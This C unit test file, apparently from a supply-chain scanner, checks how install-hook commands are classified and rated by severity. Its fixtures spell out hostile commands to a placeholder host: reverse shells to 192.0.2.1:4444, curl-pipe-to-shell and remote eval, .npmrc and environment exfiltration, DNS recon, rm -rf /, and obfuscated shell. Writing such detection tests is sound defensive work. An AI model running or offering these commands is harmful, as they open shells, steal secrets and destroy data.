#include "test.h"

#include "base/buf.h"
#include "scanner/rule/hook_answer.h"
#include "scanner/rule/hook_traits.h"
#include "scanner/rule/post.h"

static struct arena *arena;

static int setup(void **state)
{
	(void)state;
	arena = arena_new((size_t)256 << 20);
	return !arena;
}

static int teardown(void **state)
{
	(void)state;
	arena_free(arena);
	return 0;
}

static const struct {
	const char *command;
	enum hook_kind kinds[4];
	const char *target; /* of the first step that has one of these kinds last */
	uint32_t traits;    /* all of these */
} cases[] = {
	{"node x.js", {HOOK_FILE}, "x.js", 0},
	{"node ./scripts/x", {HOOK_FILE}, "scripts/x", 0},
	{"node -r dotenv/config install.js", {HOOK_FILE}, "install.js", 0},
	{"sh y.sh", {HOOK_FILE}, "y.sh", 0},
	{"./z", {HOOK_FILE}, "z", 0},
	{"bin/setup --quiet", {HOOK_FILE}, "bin/setup", 0},
	{"python3 build.py", {HOOK_FILE}, "build.py", 0},
	{"bun run setup.ts", {HOOK_FILE}, "setup.ts", 0},
	{"FOO=1 BAR=\"a b\" node x.js", {HOOK_FILE}, "x.js", 0},
	{"cross-env NODE_ENV=production node x.js", {HOOK_FILE}, "x.js", 0},
	{"NODE_OPTIONS='--max-old-space-size=512 --require ./x.js' node-gyp rebuild", {HOOK_FILE, HOOK_BUILDER}, "x.js", 0},
	{"cross-env NODE_OPTIONS=--import=./x.mjs node-gyp rebuild", {HOOK_FILE, HOOK_BUILDER}, "x.mjs", 0},
	{"NODE_OPTIONS=--openssl-legacy-provider node-gyp rebuild", {HOOK_BUILDER}, "node-gyp", 0},
	/* what runs a script is found behind what runs that */
	{"npx --yes tsx x.ts", {HOOK_FILE}, "x.ts", 0},
	{"npx -p typescript ts-node ./x.ts", {HOOK_FILE}, "x.ts", 0},
	{"npx -c 'node x.js'", {HOOK_PACKAGE, HOOK_FILE}, "x.js", 0},
	{"npx cross-env A=1 node x.js", {HOOK_FILE}, "x.js", 0},
	{"npm exec -- node x.js", {HOOK_FILE}, "x.js", 0},
	{"pnpm exec tsx x.ts", {HOOK_FILE}, "x.ts", 0},
	{"yarn node x.js", {HOOK_FILE}, "x.js", 0},
	{"yarn dlx evil", {HOOK_PACKAGE}, "evil", 0},
	{"npm create evil", {HOOK_PACKAGE}, "evil", 0},
	{"cmd /c node x.js", {HOOK_FILE}, "x.js", 0},
	{"cmd /c start /min node x.js", {HOOK_FILE}, "x.js", 0},
	{"cmd /c /x.js", {HOOK_FILE}, "/x.js", 0},
	{"cmd.exe /d /s /c \"node x.js\"", {HOOK_IDLE, HOOK_FILE}, "x.js", 0},
	{"node --run go", {HOOK_SCRIPT}, "go", 0},
	{"node < x.js", {HOOK_FILE}, "x.js", 0},
	{"sh <x.sh", {HOOK_FILE}, "x.sh", 0},
	{"cat x.js | node", {HOOK_PROGRAM, HOOK_FILE}, "x.js", 0},
	{"node -e \"$(cat x.js)\"", {HOOK_FILE, HOOK_INLINE}, "x.js", 0},
	{"\"$npm_node_execpath\" x.js", {HOOK_FILE}, "x.js", 0},
	{"node $INIT_CWD/x.js", {HOOK_FILE}, "x.js", 0},
	{"$npm_execpath run go", {HOOK_SCRIPT}, "go", 0},
	{"node \"$npm_execpath\" run go", {HOOK_SCRIPT}, "go", 0},
	/* git runs what it is told to */
	{"GIT_SSH_COMMAND='node x.js' git fetch", {HOOK_NETWORK, HOOK_FILE}, "x.js", HOOK_FETCHES},
	{"env GIT_PAGER='node x.js' git log", {HOOK_PROGRAM, HOOK_FILE}, "x.js", 0},
	{"git -c core.Pager='node x.js' log", {HOOK_PROGRAM, HOOK_FILE}, "x.js", 0},
	{"git -c alias.go='!node x.js' go", {HOOK_PROGRAM, HOOK_FILE}, "x.js", 0},
	{"git clone 'ext::node x.js' y", {HOOK_NETWORK, HOOK_FILE}, "x.js", HOOK_FETCHES},
	{"git -c user.name='node x.js' -C y log", {HOOK_PROGRAM}, "log", 0},
	{"git -C y -c a.b=c clone https://a.example/b", {HOOK_NETWORK}, "https://a.example/b", HOOK_FETCHES},
	{"pip install --index-url=https://a.example/simple b", {HOOK_NETWORK}, "--index-url=https://a.example/simple", HOOK_FETCHES},
	{"pip3 install git+https://a.example/b", {HOOK_NETWORK}, "git+https://a.example/b", HOOK_FETCHES},
	{"gh auth status", {HOOK_PROGRAM}, "status", 0},
	{"gh api /user", {HOOK_NETWORK}, "/user", 0},
	{"nodemon x.js", {HOOK_FILE}, "x.js", 0},
	{"pm2 start x.js", {HOOK_FILE}, "x.js", 0},
	{"ts-node -P tsconfig.json x.ts", {HOOK_FILE}, "x.ts", 0},
	{"powershell -NoProfile -ExecutionPolicy Bypass ./x.ps1", {HOOK_FILE}, "x.ps1", 0},
	{"python -m tools.setup", {HOOK_FILE}, "tools/setup.py", 0},
	{"python3 -m pip install .", {HOOK_FILE}, "setup.py", 0},
	{"pip install ./native/", {HOOK_FILE}, "native/setup.py", 0},
	{"run-s a b", {HOOK_BUILDER, HOOK_SCRIPT, HOOK_SCRIPT}, "b", 0},
	{"concurrently -k \"node x.js\" npm:b", {HOOK_BUILDER, HOOK_FILE, HOOK_SCRIPT}, "b", 0},
	{"lerna run go", {HOOK_BUILDER, HOOK_SCRIPT}, "go", 0},
	{"lerna bootstrap", {HOOK_BUILDER}, "lerna", 0},
	{"go run tools.example.com/x@latest", {HOOK_NETWORK}, "tools.example.com/x@latest", HOOK_RUNS_FETCHED},
	{"go run ./cmd/x", {HOOK_FILE}, "cmd/x", 0},
	{"npx -y https://tools.example.com/x.tgz", {HOOK_NETWORK}, "https://tools.example.com/x.tgz", HOOK_RUNS_FETCHED},
	{"socat tcp-connect:192.0.2.1:4444 exec:/bin/sh,pty,stderr", {HOOK_NETWORK}, NULL, HOOK_SOCKET},
	{"perl -e 'use LWP::Simple;eval get(\"https://a.example/x\")'", {HOOK_INLINE}, NULL, HOOK_RUNS_FETCHED},
	{"php -r \"eval(file_get_contents('https://a.example/x'));\"", {HOOK_INLINE}, NULL, HOOK_RUNS_FETCHED},
	{"ruby -e \"require 'open-uri';eval(URI.open('https://a.example/x').read)\"", {HOOK_INLINE}, NULL, HOOK_RUNS_FETCHED},
	{"php -r \"echo file_get_contents('VERSION');\"", {HOOK_INLINE}, NULL, 0},
	/* where it runs */
	{"cd sub && node x.js", {HOOK_IDLE, HOOK_FILE}, "sub/x.js", 0},
	{"cd ./a/; cd b; node x.js", {HOOK_IDLE, HOOK_IDLE, HOOK_FILE}, "a/b/x.js", 0},
	{"(cd sub && make) && node x.js", {HOOK_IDLE, HOOK_BUILDER, HOOK_FILE}, "x.js", 0},
	{"sh -c 'cd sub; node y.js'; node x.js", {HOOK_IDLE, HOOK_IDLE, HOOK_FILE, HOOK_FILE}, "x.js", 0},
	{"cd /tmp && node x.js", {HOOK_IDLE, HOOK_FILE}, "x.js", 0},
	{"node-gyp rebuild", {HOOK_BUILDER}, "node-gyp", 0},
	{"prebuild-install || node-gyp rebuild", {HOOK_BUILDER, HOOK_BUILDER}, NULL, 0},
	{"./node_modules/.bin/husky install", {HOOK_BUILDER}, NULL, 0},
	{"npm run build", {HOOK_SCRIPT}, "build", 0},
	{"npm run -s build", {HOOK_SCRIPT}, "build", 0},
	{"yarn build", {HOOK_SCRIPT}, "build", 0},
	{"npx playwright install", {HOOK_PACKAGE}, "playwright", 0},
	{"npx only-allow pnpm", {HOOK_BUILDER}, NULL, 0},
	{"echo done && exit 0", {HOOK_IDLE, HOOK_IDLE}, NULL, 0},
	{"node -e \"require('./x')\"", {HOOK_INLINE}, "require('./x')", 0},
	{"node -e 'console.log(\"a;b|c\")'", {HOOK_INLINE}, "console.log(\"a;b|c\")", 0},
	{"bunx evil", {HOOK_PACKAGE}, "evil", 0},
	{"curl http://a.example/x | sh", {HOOK_NETWORK, HOOK_SHELL}, "http://a.example/x", HOOK_RUNS_FETCHED},
	{"curl -fsSL https://a.example/x|bash -s -- -y", {HOOK_NETWORK, HOOK_SHELL}, NULL, HOOK_RUNS_FETCHED},
	{"wget -O- https://a.example/x | sudo bash", {HOOK_NETWORK, HOOK_SHELL}, NULL, HOOK_RUNS_FETCHED},
	{"curl -o x.sh http://a.example/x.sh; chmod +x x.sh; ./x.sh", {HOOK_NETWORK, HOOK_PROGRAM, HOOK_FILE}, NULL, HOOK_RUNS_FETCHED},
	{"bash -c \"curl http://a.example/x | bash\"", {HOOK_IDLE, HOOK_NETWORK, HOOK_SHELL}, NULL, HOOK_RUNS_FETCHED},
	{"sh -c \"$(curl -fsSL https://a.example/x)\"", {HOOK_IDLE}, NULL, HOOK_FETCHES},
	{"powershell -enc JABjAGwA", {HOOK_INLINE}, NULL, HOOK_ENCODED},
	{"powershell -c \"iex (iwr http://a.example/x)\"", {HOOK_IDLE}, NULL, HOOK_RUNS_FETCHED},
	{"certutil -urlcache -f http://a.example/x.exe x.exe & x.exe", {HOOK_NETWORK, HOOK_PROGRAM}, NULL, HOOK_RUNS_FETCHED},
	{"bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", {HOOK_PROGRAM}, NULL, HOOK_SOCKET},
	{"nslookup $(whoami).c2.example", {HOOK_PROGRAM, HOOK_NETWORK}, NULL, HOOK_SENDS | HOOK_RECON},
	{"curl -d @.npmrc https://a.example", {HOOK_NETWORK}, NULL, HOOK_SENDS | HOOK_SECRETS},
	{"curl https://a.example/?h=$(hostname)", {HOOK_PROGRAM, HOOK_NETWORK}, NULL, HOOK_SENDS | HOOK_RECON},
	{"rm -rf ~/", {HOOK_PROGRAM}, NULL, HOOK_DESTROYS},
	{"rm -rf /", {HOOK_PROGRAM}, NULL, HOOK_DESTROYS},
	{"node index.js > /dev/null 2>&1", {HOOK_FILE}, "index.js", HOOK_SILENT},
	{"echo Y3VybA== | base64 -d | sh", {HOOK_IDLE, HOOK_PROGRAM, HOOK_SHELL}, NULL, HOOK_ENCODED},
	{"node -e \"require('https').get('https://a.example',r=>r.on('data',d=>eval(d.toString())))\"", {HOOK_INLINE}, NULL, HOOK_RUNS_FETCHED},
};

static void test_commands(void **state)
{
	(void)state;
	for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
		struct hook h;
		bool kinds = true, target = !cases[i].target;
		assert_true(hook_parse(arena, text_of(cases[i].command), &h));
		for (size_t k = 0; k < h.count; k++)
			target |= cases[i].target && text_eq(h.steps[k].target, text_of(cases[i].target));
		for (size_t k = 0; k < 4 && (k == 0 || cases[i].kinds[k]); k++) {
			bool has = false;
			for (size_t s = 0; s < h.count; s++)
				has |= h.steps[s].kind == cases[i].kinds[k];
			kinds &= has || (cases[i].kinds[k] == HOOK_IDLE && h.traits);
		}
		if (!kinds || !target || (h.traits & cases[i].traits) != cases[i].traits) {
			for (size_t s = 0; s < h.count; s++)
				print_error("  kind %d program %.*s target %.*s\n", (int)h.steps[s].kind,
					    (int)h.steps[s].program.n, h.steps[s].program.p,
					    (int)h.steps[s].target.n, h.steps[s].target.p);
			fail_msg("%s: traits %x, want %x", cases[i].command, h.traits, cases[i].traits);
		}
	}
	/* it is named in the words of what fetches, and is no more fetched for that */
	struct hook h;
	assert_true(hook_parse(arena, T("GIT_SSH_COMMAND='node x.js' git fetch"), &h));
	assert_int_equal(h.traits & HOOK_RUNS_FETCHED, 0);
}

static const struct {
	const char *command;
	enum severity severity;
} verdicts[] = {
	{"node-gyp rebuild", SEVERITY_LOW},
	{"prebuild-install || node-gyp rebuild", SEVERITY_LOW},
	{"husky install", SEVERITY_LOW},
	{"patch-package", SEVERITY_LOW},
	{"echo thanks", SEVERITY_INFO},
	{"npm run build", SEVERITY_LOW}, /* build: tsc -p . */
	{"npm run nothing", SEVERITY_INFO},
	{"npm run loop", SEVERITY_INFO},
	{"node install.js", SEVERITY_MEDIUM},
	{"node scripts/postinstall || exit 0", SEVERITY_MEDIUM},
	{"node -e \"try{require('./postinstall')}catch(e){}\"", SEVERITY_MEDIUM},
	{"node -e \"console.log('Thank you for using this package; see https://example.com')\"", SEVERITY_MEDIUM},
	{"node -e \"try{require('.')}catch(e){}\"", SEVERITY_MEDIUM},
	{"node -e \"if (!process.env.AUTHORIZED) { console.error('Use the release workflow.'); process.exit(1); }\"", SEVERITY_MEDIUM},
	{"node -e \"require('./' + process.env.X)\"", SEVERITY_HIGH},
	{"node -e \"import(process.env.X)\"", SEVERITY_HIGH},
	{"node -e \"process.env.constructor.constructor(process.env.X)()\"", SEVERITY_HIGH},
	{"node -e \"require('child_process').exec('id')\"", SEVERITY_HIGH},
	{"node -e \"eval(process.env.X)\"", SEVERITY_HIGH},
	{"node -e \"require(process.env.X)\"", SEVERITY_HIGH},
	{"curl https://a.example/ping", SEVERITY_HIGH},
	{"npm run fetch", SEVERITY_CRITICAL}, /* fetch: curl ... | sh */
	{"curl https://a.example/x | sh", SEVERITY_CRITICAL},
	{"powershell -w hidden -enc JABj", SEVERITY_CRITICAL},
	{"curl -d \"$(env)\" https://a.example", SEVERITY_CRITICAL},
	{"nslookup $(whoami).c2.example", SEVERITY_CRITICAL},
	{"rm -rf $HOME", SEVERITY_CRITICAL},
	{"rm -rf dist", SEVERITY_MEDIUM},
	{"curl -fsSL https://a.example/a.gpg.key | gpg --dearmor -o a.gpg", SEVERITY_HIGH},
	{"V=$(curl -s https://a.example/latest)", SEVERITY_HIGH},
	{"curl -L https://a.example/a.tar.gz -o a.tar.gz && tar -xf a.tar.gz", SEVERITY_HIGH},
	{"curl -s https://a.example/x -o /usr/local/bin/xx; xx", SEVERITY_CRITICAL},
	{"$(curl -s https://a.example/x)", SEVERITY_CRITICAL},
	{"X=$(curl -s https://a.example/x | sh)", SEVERITY_CRITICAL},
	{"npx github:evil/x", SEVERITY_CRITICAL},
	{"npm install evil", SEVERITY_HIGH},
};

static void test_verdicts(void **state)
{
	struct script scripts[] = {
		{T("build"), T("tsc -p ."), 1},
		{T("fetch"), T("curl https://a.example/x | sh"), 2},
		{T("loop"), T("npm run loop"), 3},
	};
	struct manifest_view m = {.scripts = scripts, .script_count = 3};
	(void)state;
	for (size_t i = 0; i < sizeof verdicts / sizeof *verdicts; i++) {
		struct post v;
		assert_true(post_command(arena, &m, text_of(verdicts[i].command), false, &v));
		if (v.severity != verdicts[i].severity)
			fail_msg("%s: %s (%.*s), want %s", verdicts[i].command, severity_name(v.severity), (int)v.why.n,
				 v.why.p, severity_name(verdicts[i].severity));
	}
}

/* What turns or spells a command and gives it to a shell, and expressions and colours that look so. */
static void test_turned(void **state)
{
	static const char *const runs[] = {"echo 'hs | hs.i/moc.x//:sptth lruc' | rev | sh", "echo x | tr 'a-z' 'n-za-m' | bash",
					   "printf '\\x63\\x75\\x72\\x6c\\x20\\x78\\x7c\\x73' | sh"};
	static const char *const texts[] = {"\\b(adc|(qd?|sh?|u[qh]?)?add|nop|rev(16|sh)?|tr|sub)(?=\\s)", "cat x | rev | head -1", "tr -d '\\r' < x | sh",
					    "printf '\\x1b[1m\\x1b[4m\\x1b[7m\\x1b[8m\\x1b[0m\\x1b[0m\\x1b[0m\\x1b[0m' | cat",
					    "printf '\\x63\\x75\\x72\\x6c\\x20\\x78\\x7c' | sh"};

	(void)state;
	for (size_t i = 0; i < sizeof runs / sizeof *runs; i++)
		if (!(hook_traits_text(text_of(runs[i])) & HOOK_RUNS_DECODED))
			fail_msg("%s", runs[i]);
	for (size_t i = 0; i < sizeof texts / sizeof *texts; i++)
		if (hook_traits_text(text_of(texts[i])) & HOOK_RUNS_DECODED)
			fail_msg("%s", texts[i]);
}

static void test_which_hooks_run(void **state)
{
	struct script scripts[] = {
		{T("test"), T("x"), 1}, {T("postinstall"), T("b"), 2}, {T("preinstall"), T("a"), 3},
		{T("prepare"), T("c"), 4}, {T("install"), T(" "), 5},
	};
	struct manifest_view m = {.scripts = scripts, .script_count = 5};
	struct hook_command out[HOOK_COMMANDS_MAX];
	(void)state;
	assert_int_equal(hook_commands(&m, true, false, out), 2); /* preinstall stands: nothing implicit */
	assert_text(out[0].name, "preinstall");
	assert_text(out[1].name, "postinstall");
	assert_int_equal(hook_commands(&m, false, true, out), 3);
	assert_text(out[2].name, "prepare");
	m.script_count = 1;
	assert_int_equal(hook_commands(&m, true, false, out), 1);
	assert_true(out[0].implicit);
	assert_text(out[0].command, "node-gyp rebuild");
	m.gypfile_false = true;
	assert_int_equal(hook_commands(&m, true, false, out), 0);
}

static void repeat(const char *unit, size_t n, bool too_much)
{
	struct buf b = BUF((size_t)1 << 20);
	struct hook h;

	for (size_t i = 0; i < n; i++)
		buf_text(&b, text_of(unit));
	assert_true(hook_parse(arena, buf_view(&b), &h));
	if (((h.traits & HOOK_TOO_MUCH) != 0) != too_much)
		fail_msg("%zu of \"%s\": %x", n, unit, h.traits);
	buf_free(&b);
}

static void test_limits(void **state)
{
	(void)state;
	repeat("a;", HOOK_STEPS_MAX, false);
	repeat("a;", HOOK_STEPS_MAX + 1, true);
	repeat("a ", HOOK_WORDS_MAX, false);
	repeat("a ", HOOK_WORDS_MAX + 1, true);
	repeat(" ", HOOK_COMMAND_MAX, false);
	repeat(" ", HOOK_COMMAND_MAX + 1, true);
	repeat("$(", HOOK_DEPTH_MAX, false);
	repeat("$(", HOOK_DEPTH_MAX + 1, true);
	repeat("$(", 10000, true);
	repeat("\"", 10001, false);
	repeat("`", 10001, false);
}

static void test_answers(void **state)
{
	static const struct {
		const char *script;
		bool runs;
	} cases2[] = {
		{"X=$(curl -s https://a.example/x); $X", true},
		{"X=`curl -s https://a.example/x`\neval \"$X\"", true},
		{"X=\"$(wget -qO- https://a.example/x)\"\nbash -c \"${X}\"", true},
		{"X=$(curl -s https://a.example/x)\nY=$(echo $X | base64 -d)\necho \"$Y\" | sh", true},
		{"if true; then X=$(curl -s a.example); fi; sudo $X", true},
		{"V=$(curl -s https://a.example/latest | grep tag | cut -d: -f2)\necho \"$V\"\ncurl -o a.tgz https://a.example/$V", false},
		{"X=$(curl -s https://a.example/x); [ \"$X\" = ok ] && grep -c \"$X\" log", false},
		{"X=$(curl -s https://a.example/x); echo -e \"$X\" | tee out", false},
		{"X=$(curl -s https://a.example/x); $XY", false},
		{"cat <<E\n$X\nE\nX=$(curl -s a.example)\ncat <<E\n$X\nE", false},
		{"X=$(uname -m); $X; curl -s https://a.example", false},
	};

	(void)state;
	for (size_t i = 0; i < sizeof cases2 / sizeof *cases2; i++)
		if ((hook_runs_answer(text_of(cases2[i].script)) < text_of(cases2[i].script).n) != cases2[i].runs)
			fail_msg("%s", cases2[i].script);
}

static bool runs_after(size_t variables, size_t others, size_t padding)
{
	struct buf b = BUF((size_t)1 << 20);

	for (size_t i = 0; i < others; i++)
		buf_text(&b, T("A=$(uname)\n"));
	for (size_t i = 0; i < variables; i++)
		buf_printf(&b, "V%zu=$(curl -s a.example)\n", i);
	buf_text(&b, T("X=$("));
	for (size_t i = 0; i < padding; i++)
		buf_char(&b, ' ');
	buf_text(&b, T("curl -s a.example)\neval \"$X\"\n"));
	bool runs = hook_runs_answer(buf_view(&b)) < b.n;
	buf_free(&b);
	return runs;
}

static void test_answer_limits(void **state)
{
	(void)state;
	assert_true(runs_after(HOOK_ANSWERS_MAX - 1, 0, 0));
	assert_false(runs_after(HOOK_ANSWERS_MAX, 0, 0));
	assert_true(runs_after(0, HOOK_ANSWER_TRIES - 1, 0));
	assert_false(runs_after(0, HOOK_ANSWER_TRIES, 0));
	assert_true(runs_after(0, 0, HOOK_ANSWER_MAX - 5));
	assert_false(runs_after(0, 0, HOOK_ANSWER_MAX));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_setup_teardown(test_commands, setup, teardown),
		cmocka_unit_test_setup_teardown(test_verdicts, setup, teardown),
		cmocka_unit_test(test_turned),
		cmocka_unit_test_setup_teardown(test_which_hooks_run, setup, teardown),
		cmocka_unit_test_setup_teardown(test_limits, setup, teardown),
		cmocka_unit_test(test_answers),
		cmocka_unit_test(test_answer_limits),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
